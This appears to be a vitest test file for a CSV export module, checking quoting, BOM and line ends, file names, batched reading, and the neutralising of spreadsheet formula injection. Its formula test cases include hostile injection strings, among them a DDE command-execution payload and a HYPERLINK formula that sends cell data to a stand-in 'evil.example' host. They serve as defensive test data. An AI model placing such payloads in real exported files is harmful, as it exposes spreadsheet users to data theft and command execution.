import { neutraliseFormula, restoreFormula } from '@basics/contract/fields/csv-text.ts';
import { Readable } from 'node:stream';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { repeatTimes } from '#server/testing/database/databases.ts';
import { readBatches, createCsvName, writeCsv, type Cell } from './csv.ts';

/** Returns the whole CSV text of a table with the given batches of rows. */
async function writeText(columns: readonly string[], ...batches: readonly Cell[][][]): Promise<string> {
  const table = { name: 'test.csv', columns, batches: ReadableStream.from(batches) };
  return (await Readable.from(writeCsv(table)).toArray()).join('');
}

test('a CSV table is written as UTF-8 with a BOM, CRLF line ends and quoted texts', async () => {
  const text = await writeText(['a', 'b'], [['Büro "Nord"', 1]], [['one\r\ntwo; three,', null]], [['', true]]);
  expect(text).toBe('\uFEFF"a","b"\r\n"Büro ""Nord""",1\r\n"one\r\ntwo; three,",\r\n"",true\r\n');
});

test('a CSV table without rows contains only its header', async () => {
  expect(await writeText(['a', 'b'])).toBe('\uFEFF"a","b"\r\n');
});

test('the file name of a CSV table contains the day of the export in UTC', () => {
  expect(createCsvName('users', Date.parse('2026-11-21T23:59:59.000Z'))).toBe('users-2026-11-21.csv');
});

describe('a text that a spreadsheet would evaluate as a formula', () => {
  test.each([
    '=1+1',
    '+33 1 42 68 53 00',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\nx',
    ' =1',
    '"=1',
    "'=1",
    "''-1",
    "'\t",
    '\u00A0=1',
    '\u200B+1',
    '\uFEFF@x',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '﹣1',
    '−1',
    '“=1',
    '=cmd|’ /C calc’!A0',
    '=HYPERLINK("https://evil.example?"&A1)',
  ])('the text %j gets an apostrophe in front, and an import removes the apostrophe (T487)', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  test.each(['', 'Ada', "O'Neil", "'t Hooft", 'a=b', '3-4', 'ada@office.example', '004912', "''"])(
    'the text %j is not a formula and is not changed',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
      expect(restoreFormula(text)).toBe(text);
    },
  );

  test('any text is the same after an export and an import, and no exported text begins with a character that starts a formula (T486)', () => {
    const character = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      "'",
      '"',
      ' ',
      '\t',
      '\r',
      '\n',
      '\u200B',
      'a',
      '1',
      'é',
    );
    const text = fc.oneof(fc.string({ unit: character, maxLength: 6 }), fc.string({ unit: 'binary' }));
    fc.assert(
      fc.property(
        text,
        (each) =>
          restoreFormula(neutraliseFormula(each)) === each && !/^[=+\-@\t\r\n＝＋－＠]/.test(neutraliseFormula(each)),
      ),
      { numRuns: repeatTimes(1000, 10_000) },
    );
  });
});

test('all rows of a list are read in batches; each batch begins after the last row of the previous batch', async () => {
  const lastRows: (number | null)[] = [];
  const readNextRows = async (lastRow: number | null, limit: number): Promise<number[]> => {
    lastRows.push(lastRow);
    return [1, 2, 3, 4, 5, 6].filter((row) => row > (lastRow ?? 0)).slice(0, limit);
  };
  expect(await Readable.from(readBatches(readNextRows, 4)).toArray()).toEqual([
    [1, 2, 3, 4],
    [5, 6],
  ]);
  expect(await Readable.from(readBatches(readNextRows, 3)).toArray()).toEqual([
    [1, 2, 3],
    [4, 5, 6],
  ]);
  expect(lastRows).toEqual([null, 4, null, 3, 6]);
});
